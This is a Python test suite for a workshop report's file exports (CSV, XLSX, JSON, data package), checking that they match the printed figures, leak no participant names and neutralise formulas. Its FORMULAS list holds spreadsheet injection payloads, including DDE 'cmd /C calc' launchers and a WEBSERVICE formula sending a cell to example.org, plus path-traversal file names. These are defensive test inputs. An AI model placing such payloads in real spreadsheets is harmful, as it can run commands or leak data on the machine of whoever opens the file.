"""Results as files: what the report prints and nothing more, and no cell that a spreadsheet would run."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from datetime import UTC
from gettext import NullTranslations
from pathlib import Path
from typing import Any

import pytest
from frictionless import Package
from openpyxl import load_workbook

from exports.cells import FORMULA_STARTS
from exports.downloads import base_name, picture_name, plain_name, table_files
from exports.frame_columns import FIGURES, RESULTS
from exports.local_area_report import Writer
from exports.published import Published, Result, Value, published
from exports.reading import read
from exports.result_tables import BESIDE, CELL
from exports.row_file import row_file, row_json, row_workbook
from exports.workbook import Sheet, workbook
from sessions.ids import ExerciseId
from sessions.workshop import Workshop
from tests.builders import Hall, make_hall, play_all, seat_everyone
from tests.exports.reports import LIGHT, figures, rehearsed, written

FORMULAS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '  =HYPERLINK("http://example.org")',
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    '=WEBSERVICE("http://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    '"=1+1',
    ";=1+1",
)
KEY = "5a" * 32


def results_of(hall: Hall) -> Published:
    reading = read(hall.service.snapshot(hall.workshop), hall.service.registry)
    return published(Writer(reading, hall.service.registry, LIGHT, UTC, NullTranslations()))


@pytest.fixture(scope="module")
def hall() -> Hall:
    made = make_hall(is_rehearsal=True)
    play_all(made, seat_everyone(made))
    return made


@pytest.fixture(scope="module")
def room() -> Workshop:
    """One that is not of the other fixture's day, for its words are changed."""
    return rehearsed(at_each_table=1).state


@pytest.fixture(scope="module")
def found(hall: Hall) -> Published:
    return results_of(hall)


@pytest.fixture(scope="module")
def files(found: Published) -> dict[str, bytes]:
    return by_ending(found)


def by_ending(found: Published) -> dict[str, bytes]:
    return {name.rpartition(".")[2]: body for name, body in table_files(found, str).items()}


def lines_of(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def cells_of(book: Any) -> Iterator[Any]:
    for sheet in book:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def with_words(words: str) -> Published:
    """Results in which every text is the same."""
    result = Result(1, words, words, words, "room", words, words, (words,), (words,), ((Value(words),),))
    return Published(words, words, words, "2017-06-28", "", (result,))


@pytest.mark.parametrize("words", FORMULAS)
def test_no_text_anywhere_is_a_formula_in_any_file(words: str) -> None:
    made = by_ending(with_words(words))
    for line in lines_of(made["csv"]):
        for text in line.values():
            assert not text.lstrip(" ").startswith(FORMULA_STARTS), text
    with zipfile.ZipFile(io.BytesIO(made["zip"])) as package:
        for name in ("figures.csv", "results.csv"):
            for line in lines_of(package.read(name)):
                assert not [text for text in line.values() if text.lstrip(" ").startswith(FORMULA_STARTS)]
    book = load_workbook(io.BytesIO(made["xlsx"]))
    assert {cell.data_type for cell in cells_of(book)} <= {"s", "n"}
    assert not [cell for cell in cells_of(book) if cell.hyperlink]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_row_of_an_exercise_is_a_formula_whatever_people_wrote(room: Workshop, words: str) -> None:
    exercise = room.exercises[ExerciseId("benefit")]
    plain = " ".join(words.split())
    next(iter(exercise.state.tables[1].criteria.values())).text = words
    book = load_workbook(io.BytesIO(row_workbook(room, exercise, KEY)))
    assert {cell.data_type for cell in cells_of(book)} <= {"s", "n", "b"}
    assert plain in {" ".join(str(cell.value).replace("_x000D_", "").split()) for cell in cells_of(book)}
    for line in lines_of(row_file(room, exercise, KEY)):
        assert not [text for text in line.values() if text.lstrip(" ").startswith(FORMULA_STARTS)]
    assert words in {row["text"] for row in json.loads(row_json(room, exercise, KEY))["rows"]}


def test_the_files_hold_the_figures_of_the_report_and_no_other(hall: Hall, found: Published) -> None:
    printed = figures(written(hall))
    assert {f"figure-{result.figure}" for result in found.results} == {figure.id for figure in printed}
    assert len(found.results) > 50
    for result in found.results:
        words = next(figure.words for figure in printed if figure.id == f"figure-{result.figure}")
        assert " ".join(result.title.split()) in words
        assert " ".join(result.n.split()) in words


def test_tables_that_the_report_prints_are_in_the_files_cell_by_cell(hall: Hall, found: Published) -> None:
    printed = {figure.id: figure.tables for figure in figures(written(hall))}
    compared = 0
    for result in found.results:
        for table in printed[f"figure-{result.figure}"]:
            if table[0] == [" ".join(title.split()) for title in result.columns]:
                shown = [[" ".join((value.shown or "–").split()) for value in line] for line in result.lines]
                assert table[1:] == shown, result.title
                compared += 1
    assert compared > 30


def test_no_participant_is_in_any_file(hall: Hall, files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(files["zip"])) as package:
        text = b"".join([files["csv"], files["json"], *(package.read(name) for name in package.namelist())])
    for sheet in cells_of(load_workbook(io.BytesIO(files["xlsx"]))):
        text += str(sheet.value).encode()
    assert not [who for who in hall.state.participants if who.encode() in text]


def test_the_csv_has_a_row_a_cell_with_its_figure_n_and_source_beside_it(files: dict[str, bytes]) -> None:
    lines = lines_of(files["csv"])
    assert list(lines[0]) == [*BESIDE, *CELL]
    first = next(line for line in lines if line["column"] == "Joined" and line["heading"] == "All")
    assert (first["shown"], first["value"], first["whose"]) == ("30", "30", "room")
    assert "n = 30" in first["n"]
    assert "Manchester" in first["source"]
    assert "Rehearsal: answers are made up." in first["source"]


def test_the_spreadsheet_has_a_sheet_a_figure_that_a_spreadsheet_opens(
    found: Published, files: dict[str, bytes]
) -> None:
    book = load_workbook(io.BytesIO(files["xlsx"]))
    assert len(book.sheetnames) == len(found.results) + 2
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    joined = book[next(name for name in book.sheetnames if name.startswith("1 How many"))]
    values = list(joined.iter_rows(values_only=True))
    assert values[0][0] == found.results[0].heading
    assert ("All", 30, 30) in values


def test_the_json_gives_each_figure_its_table(found: Published, files: dict[str, bytes]) -> None:
    told = json.loads(files["json"])
    assert told["workshop"]["is_rehearsal"] is True
    assert [figure["figure"] for figure in told["figures"]] == [result.figure for result in found.results]
    assert told["figures"][0]["lines"][-1] == ["All", 30, 30]


def test_the_data_package_is_valid_and_says_what_every_column_holds(
    files: dict[str, bytes], tmp_path: Path
) -> None:
    with zipfile.ZipFile(io.BytesIO(files["zip"])) as archive:
        archive.extractall(tmp_path)
    package = Package(str(tmp_path / "datapackage.json"))
    report = package.validate()
    assert report.valid, report.flatten(["type", "note"])[:5]
    assert [resource.name for resource in package.resources] == [FIGURES.name, RESULTS.name]
    for resource in package.resources:
        assert all(field.description for field in resource.schema.fields)
    assert package.get_resource("results").schema.foreign_keys
    assert "made up" in (tmp_path / "README.md").read_text(encoding="utf-8")


def test_a_data_package_whose_table_was_changed_is_found_out(files: dict[str, bytes], tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(files["zip"])) as archive:
        archive.extractall(tmp_path)
    path = tmp_path / "results.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("\n1,", "\none,", 1), encoding="utf-8")
    assert not Package(str(tmp_path / "datapackage.json")).validate().valid


def test_the_same_results_give_the_same_bytes(hall: Hall, files: dict[str, bytes]) -> None:
    again = by_ending(results_of(hall))
    assert {form: again[form] == body for form, body in files.items()} == dict.fromkeys(files, True)


def test_names_of_files_say_area_day_figure_title_and_n_in_plain_letters(found: Published) -> None:
    assert base_name(found).startswith("rehearsal-manchester-20")
    name = picture_name(found, next(result for result in found.results if result.drawn))
    assert "-figure-01-how-many-people-joined-each-table-" in name
    assert "-n-30-" in name
    assert all(letter.isascii() and (letter.isalnum() or letter == "-") for letter in name)
    assert plain_name("../../Ünïtéd  =Kingdom\x00/") == "united-kingdom"
    assert len(plain_name("word " * 100)) <= 60
    assert plain_name("東京") == ""


def test_sheets_with_hostile_names_are_told_apart() -> None:
    names = ["[a]:*?/\\", "", "x" * 99, "X" * 99, "History'", "=1+1"]
    book = load_workbook(
        io.BytesIO(workbook("title", [Sheet(name, (), ("one",), (("two",),)) for name in names]))
    )
    assert len(book.sheetnames) == len(names)
    assert all(len(name) <= 31 for name in book.sheetnames)
